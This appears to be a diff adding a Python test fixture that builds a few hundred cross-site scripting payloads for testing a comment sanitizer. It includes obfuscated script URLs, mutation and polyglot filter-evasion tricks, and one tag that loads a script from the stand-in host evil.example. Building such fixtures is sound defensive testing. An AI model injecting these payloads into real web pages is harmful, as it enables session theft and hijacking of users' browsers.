@@ -1,0 +1,111 @@
+"""XSS payloads for the hostile-content tests, built here from parts (a few hundred)."""
+
+import itertools
+
+TAGS = ["a", "img", "svg", "body", "iframe", "details", "video", "audio", "input", "select",
+        "textarea", "div", "span", "em", "q", "code", "blockquote", "math", "object", "form",
+        "marquee", "style", "button", "embed", "source", "image"]  # fmt: skip
+HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle",
+            "onanimationstart", "onpointerenter", "onbegin", "OnErRoR"]  # fmt: skip
+SCRIPT_URLS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java&#x0A;script:alert(1)",
+    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
+    "&#x6A;avascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "DATA:image/svg+xml,<svg onload=alert(1)>",
+    "vbscript:msgbox(1)",
+    "livescript:alert(1)",
+    "jav&#x09;ascript:alert(1)",
+    "\x01javascript:alert(1)",
+]
+TRICKS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<<script>alert(1);//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
+    "<svg><use href=data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<isindex action=javascript:alert(1) type=submit>",
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+    "<base href=javascript:alert(1)//>",
+    '<a href="#" style="background:url(javascript:alert(1))">s</a>',
+    '<div style="width:expression(alert(1))">e</div>',
+    "<style>@import 'javascript:alert(1)';</style>",
+    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099alert(1)">',
+    '<img """><script>alert(1)</script>">',
+    "<img src=`x`onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x:alert(1) onerror=eval(src)>",
+    '<IMG SRC="jav\tascript:alert(1);">',
+    '<a href="javas&#99;ript:alert(1)">c</a>',
+    '<a href="&#1;javascript:alert(1)">d</a>',
+    '<a href="jav&NewLine;ascript:alert(1)">e</a>',
+    "<a href=javascript:alert(1)//https://ok.example>f</a>",
+    '<a href="https://ok.example" onclick=alert(1)>g</a>',
+    "<a href='https://ok.example' target=_blank rel=opener>h</a>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src onloadstart=alert(1)>",
+    "<marquee onstart=alert(1)>m</marquee>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<body onload=alert(1)>",
+    "<x onclick=alert(1)>click</x>",
+    "<em onmouseover=alert(1)>hover</em>",
+    "<q cite=javascript:alert(1)>q</q>",
+    "<blockquote cite=javascript:alert(1) onclick=alert(1)>b</blockquote>",
+    "<code onclick=alert(1)>c</code>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<?xml version="1.0"?><script>alert(1)</script>',
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/"
+    "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
+    "<svg/onload=alert(1)>",
+    "<svg onload=alert`1`>",
+    '<a href="https://ok.example">safe link</a> https://plain.example/path?q=<script>',
+    'www.example.org/"onmouseover="alert(1)',
+    'https://example.org/"><img src=x onerror=alert(1)>',
+    "<template><script>alert(1)</script></template>",
+    "<slot onclick=alert(1)>s</slot>",
+    "<dialog open onclose=alert(1)>d</dialog>",
+    '<a href="mailto:someone@example.org">mail</a>',
+]
+
+
+def comment_payloads() -> list[str]:
+    payloads = list(TRICKS)
+    for tag, handler in itertools.product(TAGS, HANDLERS):
+        payloads.append(f"<{tag} src=x {handler}=alert(1)>{tag}</{tag}>")
+    for url in SCRIPT_URLS:
+        payloads += [
+            f'<a href="{url}">link</a>',
+            f'<img src="{url}">',
+            f'<iframe src="{url}"></iframe>',
+            f"[md link]({url})",
+            f'<form action="{url}"><button>go</button></form>',
+        ]
+    return payloads
